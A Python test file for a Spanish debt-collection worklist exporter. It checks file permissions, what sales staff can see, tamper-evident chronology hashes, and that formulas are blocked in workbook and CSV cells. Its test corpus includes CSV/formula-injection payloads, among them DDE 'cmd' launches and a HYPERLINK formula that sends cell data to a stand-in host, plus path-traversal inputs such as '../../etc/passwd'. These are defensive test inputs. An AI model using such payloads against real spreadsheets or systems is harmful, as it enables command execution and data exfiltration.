"""No cell of a list can become a formula, in the workbook or in the CSV, and nobody else can read the files."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from tasks.private_files import file_name
from tasks.spreadsheet_text import STARTS_A_FORMULA, cell_text, said
from tasks.worklist.brief import Teller
from tasks.worklist.case_file import Event, write_case
from tasks.worklist.sheet import WorkSheet, write_list
from tasks.worklist.sheet_lines import History, LineItem, SheetLine

CORPUS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("http://x.example?"&A1,"go")',
    "＝1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    "+34 600 111 222=1",
]
HISTORY = History(
    settled_count=4, late_share=0.5, median_days_late=12.0, risk_grade="D", score_reasons=("often_late",),
    last_paid_on=date(2026, 5, 1), last_paid_amount=Decimal("10.00"), last_paid_currency="EUR", promises_kept=1,
    promises_broken=2, promises_open=0, open_disputes=0, last_message_on=date(2026, 6, 1), last_message_step="first",
    last_message_channel="email", last_result_on=None, last_result=None,
)  # fmt: skip
ANA = Teller(company="Acme", country="ES", language="es")


def item(text: str) -> LineItem:
    return LineItem(
        receivable_id="R1", document_number=said(text), instalment_number=None, invoice_date=date(2026, 4, 1),
        due_date=date(2026, 5, 1), days_overdue=45, amount=Decimal("100.00"), open_amount=Decimal("80.50"),
        payment_terms_days=30, references=(("purchase_order", said(text)),),
    )  # fmt: skip


def sheet_line(text: str, *, channel: str = "call", phone: str = "+34 976 000 001") -> SheetLine:
    return SheetLine(
        reminder_key="k|C1", reminder_id="ab" * 16, channel=channel, list_channel=channel, customer_id=said(text),
        customer_name=said(text), customer_country="ES", customer_tax_id=said(text), zone=said(text),
        contact_name=said(text), contact_role="reminder", phone=said(phone), mobile="", email=said(text), address=said(text), currency="EUR",
        purpose="overdue", step="call", total_amount=Decimal("80.50"), overdue_amount=Decimal("80.50"), days_overdue=45,
        late_probability=0.9, expected_gain=Decimal("3.20"), waits_since=None, is_over_limit=False,
        claimed_amount=Decimal("41.10"), discount_amount=Decimal(0), discount_until=None, history=HISTORY,
        items=(item(text),),
    )  # fmt: skip


def written(tmp_path: Path, line: SheetLine) -> tuple[Path, Path]:
    sheet = WorkSheet(channel=line.list_channel, collector="Ana", as_of=date(2026, 6, 16), lines=[line])
    return write_list(tmp_path / "lists" / "call-ana", sheet, ANA)


@pytest.mark.parametrize("text", CORPUS)
def test_no_cell_begins_like_a_formula(tmp_path, text) -> None:
    book, table = written(tmp_path, sheet_line(text, phone=text))
    with zipfile.ZipFile(book) as parts:
        assert not any(b"<f>" in parts.read(name) for name in parts.namelist() if "worksheets/" in name)
    workbook = CalamineWorkbook.from_path(book)
    cells = [
        cell for name in workbook.sheet_names for row in workbook.get_sheet_by_name(name).to_python() for cell in row
    ]
    with table.open(encoding="utf-8-sig", newline="") as file:
        cells += [cell for row in csv.reader(file, delimiter=";") for cell in row]
    texts = [cell for cell in cells if isinstance(cell, str) and cell]
    assert len(texts) > 40
    assert not [cell for cell in texts if cell.lstrip().startswith(STARTS_A_FORMULA)]


def test_a_telephone_number_can_be_dialled_from_the_workbook() -> None:
    assert cell_text("+34 976 000 001", may_be_phone=True) == "+34 976 000 001"
    assert cell_text("+34 976 000 001") == "'+34 976 000 001"


def test_amounts_and_dates_are_numbers_and_dates_and_results_can_be_chosen(tmp_path) -> None:
    book, _ = written(tmp_path, sheet_line("Talleres Ebro"))
    workbook = CalamineWorkbook.from_path(book)
    header, row = workbook.get_sheet_by_index(0).to_python()[:2]
    assert row[header.index("Importe pendiente")] == 80.5
    header, row = workbook.get_sheet_by_index(1).to_python()[:2]
    assert row[header.index("Vence")] == date(2026, 5, 1)
    with zipfile.ZipFile(book) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
    assert b"<dataValidation " in sheet
    assert b'state="frozen"' in sheet


def test_files_are_for_their_owner_only(tmp_path) -> None:
    for path in written(tmp_path, sheet_line("Talleres Ebro")):
        assert path.stat().st_mode & 0o777 == 0o600
        assert path.parent.stat().st_mode & 0o777 == 0o700


def test_sales_people_see_neither_score_nor_claims_nor_what_is_at_stake(tmp_path) -> None:
    _, table = written(tmp_path, sheet_line("Talleres Ebro", channel="sales"))
    text = table.read_text(encoding="utf-8-sig")
    assert "pregunte con tacto" in text
    assert not [word for word in ("En juego", "Nota D", "intereses", "Vencido") if word in text]


def test_a_line_says_why_what_paying_brings_and_what_to_ask() -> None:
    brief = ANA.brief(sheet_line("Talleres Ebro"))
    assert "Promesas cumplidas: 1, incumplidas: 2, vigentes: 0." in brief.why
    assert "por correo electrónico el" in brief.why
    assert "paga a menudo con retraso" in brief.why
    assert "41,10 €" in brief.benefits
    assert "¿Qué día y qué importe pagarán?" in brief.ask


def test_a_case_shows_when_a_row_of_its_chronology_was_changed(tmp_path) -> None:
    events = [
        Event(date(2026, 5, n), "message", f"k{n}", "", "email first (overdue)", "accepted", "") for n in (1, 2, 3)
    ]
    line = sheet_line("Talleres Ebro", channel="legal")

    def hashes(rows: list[Event]) -> list[str]:
        folder = tmp_path / str(len(list(tmp_path.iterdir())))
        write_case(
            folder, line, rows, as_of=date(2026, 6, 16), company={"id": "acme"}, strategy_version="v", outbox=tmp_path
        )
        assert sorted(path.name for path in folder.iterdir()) == [
            "case.json", "chronology.csv", "documents.csv", "manifest.json", "statement.csv"
        ]  # fmt: skip
        with (folder / "chronology.csv").open(encoding="utf-8-sig", newline="") as file:
            return [row["sha256"] for row in csv.DictReader(file)]

    kept, changed = hashes(events), hashes([events[0], Event(*(*vars(events[1]).values(),)[:-1], "x"), events[2]])
    assert kept[0] == changed[0]
    assert kept[1:] != changed[1:]
    assert kept[2] != changed[2]


def test_a_very_long_id_still_names_a_folder_and_leads_nowhere_else(tmp_path: Path) -> None:
    for strange in ("x" * 300, "ñ" * 300, "../../etc/passwd", "..", "a/b\\c", "\x00", ""):
        folder = tmp_path / f"{file_name(strange)}-EUR-abababab"
        folder.mkdir(exist_ok=True)
        assert folder.parent.resolve() == tmp_path.resolve()
